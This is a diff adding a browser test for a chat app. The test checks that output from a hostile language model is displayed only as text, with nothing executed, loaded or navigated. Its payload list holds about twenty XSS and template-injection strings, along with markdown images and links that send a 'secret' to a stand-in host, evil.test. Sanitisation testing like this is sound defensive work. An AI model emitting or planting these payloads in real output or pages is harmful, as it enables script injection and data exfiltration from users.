@@ -1,0 +1,75 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { type FakeProvider, startFakeProvider } from '../server/testing/fake-provider.ts';
+import { streamed } from '../server/testing/fake-replies.ts';
+import { say, startConversation, untilQuiet } from './support/chat.ts';
+import { openStage, type Stage } from './support/stage.ts';
+
+/** What a model may write that would run, load or lead somewhere if it were anything but text. */
+const HOSTILE = [
+  '<script>window.hacked=1</script>',
+  '<img src=x onerror="window.hacked=1">',
+  '<svg onload="window.hacked=1"><a xlink:href="javascript:window.hacked=1">x</a></svg>',
+  '<iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/o"></object>',
+  '<body onload=window.hacked=1><details open ontoggle=window.hacked=1>x</details>',
+  '<link rel=stylesheet href="https://evil.test/s.css"><style>@import url(https://evil.test/i.css)</style>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
+  '<form action="https://evil.test/"><input name=secret autofocus onfocus="window.hacked=1"></form>',
+  '<video src="https://evil.test/v.mp4" autoplay onerror="window.hacked=1"></video>',
+  '![a picture](https://evil.test/leak?words=secret)',
+  '[a link](javascript:window.hacked=1) [another](https://evil.test/?words=secret)',
+  '[ref]: https://evil.test/ "title" ![x][ref] <https://evil.test/auto>',
+  'https://evil.test/plain?words=secret and www.evil.test and mailto:a@evil.test',
+  '&lt;img src=x onerror=window.hacked=1&gt; &#60;script&#62;window.hacked=1&#60;/script&#62;',
+  '</p></div></main><script src="https://evil.test/x.js"></script>',
+  '<!-- --><![CDATA[<script>window.hacked=1</script>]]>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to stay one
+  '{{constructor.constructor("window.hacked=1")()}} ${window.hacked=1} <%= window.hacked=1 %>',
+  '`<img src=x onerror=window.hacked=1>` ```html\n<script>window.hacked=1</script>\n```',
+  '\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e',
+  '<a href="data:text/html,<script>opener.hacked=1</script>" target=_blank ping="https://evil.test/ping">x</a>',
+];
+
+describe('a hostile model', () => {
+  let stage: Stage;
+  let provider: FakeProvider;
+  beforeAll(async () => {
+    provider = await startFakeProvider();
+    stage = await openStage({ LLM_BASE_URL: provider.url, LLM_MODEL: 'fake-model' });
+  });
+  afterAll(async () => {
+    await stage.close();
+    await provider.close();
+  });
+
+  it('M4: whatever a model writes is text: nothing runs, nothing is loaded, nothing leads away', async () => {
+    const { page, problems, close } = await stage.visit('/chat');
+    const dialogs: string[] = [];
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    const parts = await startConversation(page);
+    for (const words of HOSTILE) {
+      provider.script(streamed(words));
+      const before = await parts.twinLines.count();
+      await say(parts, 'Go on');
+      await parts.twinLines.nth(before).waitFor();
+      await untilQuiet(page);
+      // Character by character what the model wrote, white space aside.
+      const shown = (await parts.twinLines.nth(before).innerText()).replace(/\s+/g, ' ');
+      expect(shown).toContain(words.replace(/\s+/g, ' '));
+    }
+    // And as history, after a reload.
+    await page.reload();
+    await parts.twinLines.nth(HOSTILE.length - 1).waitFor();
+    expect(
+      await parts.log.locator('a, img, svg, script, style, link, iframe, object, form, input, video, meta').count(),
+    ).toBe(0);
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+    expect(new URL(page.url()).pathname).toBe('/chat');
+    expect(dialogs).toEqual([]);
+    // Refused or not, no request to another origin was even tried.
+    expect(problems).toEqual([]);
+    await close();
+  });
+});
